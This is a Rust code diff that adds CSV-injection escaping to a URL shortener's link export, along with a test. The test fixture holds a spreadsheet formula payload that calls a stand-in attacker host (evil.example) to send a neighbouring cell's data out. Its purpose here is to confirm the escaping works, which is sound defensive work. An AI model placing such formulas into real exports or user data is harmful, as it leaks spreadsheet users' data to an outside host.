@@ -103,6 +103,40 @@ impl From<&Link> for LinkLine {
     }
 }
 
+impl LinkLine {
+    /// The line with every text cell safe to open in a spreadsheet, as OWASP's "CSV
+    /// injection" advice has it: a cell that starts with `=`, `+`, `-`, `@`, a tab or a
+    /// carriage return (which a spreadsheet reads as a formula, `HYPERLINK` and
+    /// `WEBSERVICE` included) gets a `'` in front, so that it is shown as text. Titles and
+    /// tags are anyone's to write (an anonymous create, an import); the NDJSON export
+    /// carries them unchanged, since nothing evaluates JSON.
+    fn formula_safe(self) -> Self {
+        let cell = |text: String| -> String {
+            if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                format!("'{text}")
+            } else {
+                text
+            }
+        };
+        let optional = |text: Option<String>| text.map(cell);
+        Self {
+            domain: optional(self.domain),
+            code: cell(self.code),
+            url: cell(self.url),
+            owner: optional(self.owner),
+            expired_url: optional(self.expired_url),
+            title: optional(self.title),
+            // Each tag of the cell, since a spreadsheet may split it on its commas.
+            tags: (self.tags.split(','))
+                .map(|tag| cell(tag.to_owned()))
+                .collect::<Vec<_>>()
+                .join(","),
+            password_hash: optional(self.password_hash),
+            ..self
+        }
+    }
+}
+
 /// How an export is written.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Format {
@@ -144,6 +178,7 @@ impl Format {
             // Serializing a struct of strings, numbers and booleans cannot fail.
             Self::Ndjson => serde_json::to_string(&line).unwrap_or_default() + "\n",
             Self::Csv => {
+                let line = line.formula_safe();
                 // RFC 4180 by the csv crate that `shortener import` reads with: a field is
                 // quoted only when it holds a comma, a quote or a line break; `None` is an
                 // empty field.
@@ -278,6 +313,41 @@ mod tests {
         writer.serialize(LinkLine::default()).unwrap();
         let written = String::from_utf8(writer.into_inner().unwrap()).unwrap();
         assert_eq!(written.lines().next(), Some(COLUMNS.join(",").as_str()));
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_text() {
+        let formulas = Link {
+            code: ShortCode::parse("-2x").unwrap(),
+            tags: shortener_core::Tags::parse(["@sum", "fine", "+1"]).unwrap(),
+            options: shortener_core::LinkOptions {
+                title: Some(
+                    shortener_core::Title::parse("=HYPERLINK(\"https://evil.example/?\"&O2)")
+                        .unwrap(),
+                ),
+                ..Default::default()
+            },
+            ..link()
+        };
+        let line = Format::Csv.line(&formulas);
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(line.as_bytes());
+        let record = reader.records().next().unwrap().unwrap();
+        assert_eq!(&record[1], "'-2x");
+        assert_eq!(&record[11], "'=HYPERLINK(\"https://evil.example/?\"&O2)");
+        assert_eq!(&record[13], "'+1,'@sum,fine");
+        for (index, cell) in record.iter().enumerate() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "column {index}: {cell:?}"
+            );
+        }
+        // NDJSON is not a spreadsheet's: the values as they are.
+        let value: serde_json::Value =
+            serde_json::from_str(&Format::Ndjson.line(&formulas)).unwrap();
+        assert_eq!(value["title"], "=HYPERLINK(\"https://evil.example/?\"&O2)");
+        assert_eq!(value["code"], "-2x");
     }
 
     #[test]
